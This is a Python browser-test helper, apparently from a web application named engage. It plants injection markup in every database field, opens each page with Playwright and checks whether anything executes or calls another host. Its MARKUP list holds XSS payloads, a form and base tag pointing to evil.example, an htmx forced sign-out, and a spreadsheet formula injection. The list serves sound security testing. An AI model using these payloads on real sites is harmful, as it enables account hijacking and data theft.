"""Puts markup, or another text, in every field of a served coalition, and opens its pages in a real browser."""

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import sqlalchemy as sa
from playwright.sync_api import Page, Request

from engage.config import TestConfig, in_folder, make_secret_key, read_secret_key
from engage.extensions import db
from tests import databases
from tests.browser import servers
from tests.browser.servers import Server, sign_in
from tests.client import EngageClient
from tests.factories import PASSWORD
from tests.isolation.forms_read import pages_of
from tests.isolation.world import World

ROLES = ("coordinator", "viewer")
RAN = "a script of it ran"
# What a browser shows; it saves the rest.
PAGES = ("text/html", "text/plain")
# Each leaves the place it stands in in another way; htmx's own attributes no content policy would stop.
MARKUP = (
    "<script>window.pwn=1</script>",
    "\"'><img src=x onerror=window.pwn=1>",
    "</textarea></title></select><svg/onload=window.pwn=1>",
    "<button data-hx-post=/sign-out data-hx-trigger=load>x",
    "<a href=javascript:window.pwn=1 id=pwn>{{7*7}}${7*7}",
    "<form action=//evil.example><input name=csrf_token>",
    "<style>*{display:none}</style><base href=//evil.example>",
    "=cmd|' /C calc'!A0\r\n\t<iframe srcdoc='<script>parent.pwn=1</script>'>",
)
PLANTED = """() => [
  ...(window.pwn === undefined ? [] : ['a script of it ran']),
  ...(document.querySelector('#pwn, img[onerror], svg[onload], iframe, base, form[action^="//"]')
    || [...document.querySelectorAll('style')].some(node => node.textContent.includes('display:none'))
    ? ['markup of it became an element'] : []),
  ...(document.querySelector('[data-hx-trigger=load][data-hx-post="/sign-out"]') ? ['htmx would send it'] : []),
  ...[...document.querySelectorAll('[href], [src], [action], [formaction]')]
    .filter(node => ['href', 'src', 'action', 'formaction'].some(
      name => /^\\s*(javascript|vbscript|data:text)/i.test(node.getAttribute(name) || '')))
    .map(node => 'an address that runs: ' + node.outerHTML.slice(0, 120)),
  ...(document.body.innerText.includes('$49') ? ['it was computed'] : []),
]"""


def markup(column: sa.Column[Any]) -> str:
    """Returns different markup for each column, so that each can be found in several places."""
    chosen = MARKUP[sum(map(ord, f"{column.table.name}.{column.name}")) % len(MARKUP)]
    if column.name in {"website", "link", "leave_url"}:
        chosen = "javascript:window.pwn=1//https://a.example/"
    if column.name == "email":
        chosen = '"><img/src=x/onerror=window.pwn=1>"@example.org'
    length = getattr(column.type, "length", None) or 400
    return chosen[:length]


@dataclass(frozen=True)
class Planted:
    """A served installation with markup in every text of the coalition: its columns, the addresses of its pages."""

    server: Server
    fields: set[str]
    paths: list[str]


@dataclass(frozen=True)
class Walk:
    """The number of pages opened, and the markup that was more than text on them."""

    opened: int
    found: list[str]


@contextmanager
def planted(folder: Path, write: Callable[[sa.Column[Any]], str] = markup) -> Iterator[Planted]:
    folder.mkdir(mode=0o700)
    make_secret_key(folder)
    config = TestConfig(
        SECRET_KEY=read_secret_key(folder), DATA=folder, SQLALCHEMY_DATABASE_URI=in_folder(folder)
    )
    app = databases.app_of(config)
    app.test_client_class = EngageClient
    databases.migrate(app)
    fields: set[str] = set()

    def text(column: sa.Column[Any]) -> str:
        fields.add(f"{column.table.name}.{column.name}")
        return write(column)

    with app.app_context():
        world = World(app, text)
        # What the database itself refuses is refused for good; next to nothing is.
        assert len(world.refused) < 5, world.refused
        names = _name_people(world)
        paths = [*pages_of(app), *world.channels]
        databases.close(app)
    port = servers.free_port()
    with servers.running(["serve", "--port", str(port)], folder, port) as server:
        accounts = [f"{who}  {email}  {PASSWORD}" for who, email in names.items()]
        yield Planted(Server(server.url, accounts), fields - set(world.refused), paths)


def _name_people(world: World) -> dict[str, str]:
    """Returns markup as the name of each, and the address to sign in with."""
    users, places = db.metadata.tables["accounts_user"], db.metadata.tables["coalitions_membership"]
    names = {who: f"{who}@example.org" for who in ROLES}
    for who, email in names.items():
        user = db.session.scalar(sa.select(places.c.user_id).where(places.c.id == world.places[who]))
        db.session.execute(sa.update(users).where(users.c.id == user).values(email=email, name=MARKUP[0]))
    db.session.commit()
    return names


def walk(page: Page, site: Planted, role: str) -> Walk:
    """Signs in as this person and opens every page that is theirs."""
    sign_in(page, site.server.account(role))
    opened, found = 0, list[str]()
    page.on("dialog", lambda dialog: (found.append(f"{page.url}: {RAN}: a dialog"), dialog.dismiss()))
    page.on("console", lambda message: note(message.text, page, found))
    page.on("request", lambda request: elsewhere(request, site.server, found))
    refusals = set[int]()
    for path in site.paths:
        # Most that a viewer asks for is refused, with the same few pages, which a browser need not draw each time.
        answer = page.request.get(path)
        if not answer.headers.get("content-type", "").startswith(PAGES) or answer.status in refusals:
            continue
        page.goto(path)
        found += [f"{path}: {problem}" for problem in page.evaluate(PLANTED)]
        if answer.ok:
            opened += 1
        else:
            refusals.add(answer.status)
    return Walk(opened, found)


def elsewhere(request: Request, server: Server, found: list[str]) -> None:
    """Notes requests to other hosts: markup that fetches something need not run to tell someone who reads."""
    if not request.url.startswith((server.url, "data:", "about:")):
        found.append(f"asked another host: {request.url}")


def note(text: str, page: Page, found: list[str]) -> None:
    """Notes what the content policy reports: some of the markup was tried."""
    if "Content Security Policy" in text or "Refused" in text:
        found.append(f"{page.url}: {text}")
